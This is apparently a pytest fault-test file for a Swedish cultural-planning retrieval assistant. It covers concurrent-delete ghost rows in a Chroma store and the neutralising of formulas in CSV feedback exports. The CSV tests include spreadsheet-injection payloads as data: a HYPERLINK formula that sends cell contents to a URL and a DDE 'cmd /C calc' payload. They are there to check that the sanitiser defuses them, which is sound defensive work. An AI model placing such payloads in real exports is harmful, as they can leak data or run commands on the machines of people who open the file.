"""Faults around the stores: chunks deleted by a concurrent ingest while they are read, and CSV
exports whose cells a spreadsheet would run as formulas."""

from __future__ import annotations

import csv
import io
from pathlib import Path

import pytest

from ingest.pipeline import Ingestor
from kulturplan.csvsafe import neutralise_formula
from kulturplan.feedback import COLUMNS, FeedbackStore
from kulturplan.store import ChunkStore

from conftest import FakeEmbedder

pytestmark = pytest.mark.faults

TEXT = (
    "Kultur i Karlskrona\n\nKarlskrona har ett rikt föreningsliv och ett nytt kulturhus vid torget.\n\n"
    "Biblioteken\n\nBiblioteken erbjuder läsecirklar för äldre och språkcaféer för nyanlända.\n\n"
    "Musik\n\nRonneby kulturcentrum har en musikskola och en konsthall.\n"
)


@pytest.fixture
def indexed(settings, store, tmp_path: Path) -> ChunkStore:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "plan.txt").write_text(TEXT, encoding="utf-8")
    report = Ingestor(settings, store, FakeEmbedder()).run([folder], progress=False)
    assert report.ok and store.count() >= 3
    return store


# --- reads racing a concurrent ingest ----------------------------------------------------------------
def test_chunks_deleted_between_search_and_lookup_are_left_out(settings, indexed):
    embedder = FakeEmbedder()
    hits = indexed.search(embedder.embed_query("kulturhus i Karlskrona"), k=10)
    ids = [hit.chunk.id for hit in hits]
    assert len(ids) == indexed.count()

    ChunkStore.open(settings).delete(ids[:1])  # another ingest (its own store object) removes one

    found = indexed.chunks_by_id(ids)
    assert set(found) == set(ids[1:])  # the rest, intact; the deleted one is simply absent
    assert all(found[i].id == i for i in found)
    assert set(indexed.vectors(ids)) == set(ids[1:])


KEYS = ("ids", "documents", "metadatas", "embeddings", "distances")
GHOST_IDS = {"ghost-all", "ghost-metadata", "ghost-document"}


class GhostRows:
    """A Chroma collection as seen during a concurrent delete: reads also return ids whose document,
    metadata and embedding are already None (or some of them)."""

    def __init__(self, collection, metadata: dict):
        self.collection = collection
        self.ghosts = [
            {"ids": "ghost-all", "documents": None, "metadatas": None, "embeddings": None},
            {"ids": "ghost-metadata", "documents": "gammal text", "metadatas": None, "embeddings": None},
            # Only where documents were asked for: a metadata-only read cannot tell this one apart.
            {"ids": "ghost-document", "documents": None, "metadatas": dict(metadata), "embeddings": None},
        ]

    def __getattr__(self, name):
        return getattr(self.collection, name)

    def _add_ghosts(self, result, nest: bool) -> dict:
        columns = {
            key: [list(row) for row in result[key]] if nest else list(result[key])
            for key in KEYS
            if result.get(key) is not None
        }
        for ghost in self.ghosts:
            if ghost["ids"] == "ghost-document" and "documents" not in columns:
                continue
            for key, column in columns.items():
                (column[0] if nest else column).append(0.0 if key == "distances" else ghost[key])
        return {**result, **columns}

    def get(self, *args, **kwargs):
        return self._add_ghosts(self.collection.get(*args, **kwargs), nest=False)

    def query(self, *args, **kwargs):
        return self._add_ghosts(self.collection.query(*args, **kwargs), nest=True)


def test_every_read_skips_rows_without_metadata_or_document(indexed):
    real = {c.id: c for c in indexed.all_chunks()}
    metadata = indexed.all_metadata()
    documents = indexed.documents()
    doc_id = next(iter(real.values())).doc_id
    indexed.collection = GhostRows(indexed.collection, next(iter(metadata.values())))
    ids = list(real)

    assert {c.id for c in indexed.all_chunks()} == set(real)
    assert indexed.all_metadata() == metadata
    assert indexed.document_chunks(doc_id) == metadata
    assert indexed.documents() == documents
    assert {c.id for c in indexed.chunks_where({"doc_id": doc_id})} == set(real)
    found = indexed.chunks_by_id(ids + sorted(GHOST_IDS))
    assert found == real
    assert set(indexed.vectors(ids + sorted(GHOST_IDS))) == set(ids)
    hits = indexed.search(FakeEmbedder().embed_query("kulturhus"), k=10)
    assert {h.chunk.id for h in hits} == set(real)
    assert all(-1.0 <= h.score <= 1.0 for h in hits)


# --- CSV exports -------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    "value, expected",
    [
        ('=HYPERLINK("http://x"&A1;"Klicka")', '\'=HYPERLINK("http://x"&A1;"Klicka")'),
        ("@SUM(1+1)*cmd|' /C calc'!A0", "'@SUM(1+1)*cmd|' /C calc'!A0"),
        ("+46 455 123", "'+46 455 123"),
        ("-1", "'-1"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("Bra svar = tydligt", "Bra svar = tydligt"),
        ("", ""),
        (None, ""),
        (12, "12"),
    ],
)
def test_neutralise_formula(value, expected):
    assert neutralise_formula(value) == expected


def test_feedback_export_neutralises_formulas_and_keeps_every_row(tmp_path):
    feedback = FeedbackStore(tmp_path / "feedback.sqlite3")
    dangerous = [
        '=HYPERLINK("http://x"&A1;"Klicka")',
        "@SUM(1+1)*cmd|' /C calc'!A0",
        "+1+1",
        "-2+3",
    ]
    for text in dangerous:
        feedback.add(text, "svar", "[]", "down", comment=text)
    feedback.add("Vad gör regionen?", "Regionen stöder [1].", "[]", "up", comment="Bra, = tydligt")

    out = tmp_path / "feedback.csv"
    assert feedback.export_csv(out) == len(dangerous) + 1
    rows = list(csv.DictReader(io.StringIO(out.read_text(encoding="utf-8"))))

    assert len(rows) == len(dangerous) + 1 and list(rows[0]) == list(COLUMNS)
    for row, text in zip(rows, dangerous):
        assert row["comment"] == "'" + text and row["question"] == "'" + text  # text, not a formula
    assert rows[-1]["comment"] == "Bra, = tydligt" and rows[-1]["question"] == "Vad gör regionen?"
    assert [int(r["id"]) for r in rows] == list(range(1, len(dangerous) + 2))
    assert all(not cell.startswith(("=", "+", "-", "@", "\t", "\r")) for r in rows for cell in r.values())
    assert feedback.to_csv().splitlines() == out.read_text(encoding="utf-8").splitlines()


def test_a_running_retriever_finds_what_another_process_ingested(settings, tmp_path):
    """An ingest beside a running chat: after the re-check, dense search finds the new document
    (the embedded Chroma's in-memory index is reloaded) and a removed one is gone."""
    import subprocess
    import sys

    from assistant.retrieval import HybridRetriever
    from ingest.pipeline import ingest

    docs = tmp_path / "docs"
    docs.mkdir()
    (docs / "a.txt").write_text("Titel\n\nRonneby har en konsthall med utställningar.\n", encoding="utf-8")
    ingest(settings, [docs], progress=False, embedder=FakeEmbedder())
    embedder = FakeEmbedder()
    retriever = HybridRetriever(settings, ChunkStore.open(settings), embedder)
    question = "Vilken teater finns vid hamnen i Karlshamn?"
    assert {p.chunk.source for p in retriever.retrieve(question).passages} == {"a.txt"}

    (docs / "b.txt").write_text("Titel B\n\nKarlshamn har en ny teater vid hamnen.\n", encoding="utf-8")
    (docs / "a.txt").unlink()
    script = (
        "import sys; from pathlib import Path; sys.path[:0] = [%r, %r]\n"
        "from fakes import FakeEmbedder; from ingest.pipeline import ingest; from kulturplan.config import load_settings\n"
        "ingest(load_settings(data_dir=%r), [Path(%r)], prune=True, progress=False, embedder=FakeEmbedder())\n"
    ) % (str(Path(__file__).parent.parent), str(Path(__file__).parent), str(settings.data_dir), str(docs))
    subprocess.run([sys.executable, "-c", script], check=True, timeout=120)

    stale = retriever.store.search(embedder.embed_query(question), k=5)
    assert [h.chunk.source for h in stale] == []  # the deleted chunk is skipped, the new one not yet seen
    retriever._checked_at = 0.0  # the re-check interval has passed
    passages = retriever.retrieve(question).passages
    assert {p.chunk.source for p in passages} == {"b.txt"}
    assert [h.chunk.source for h in retriever.store.search(embedder.embed_query(question), k=5)] == ["b.txt"]
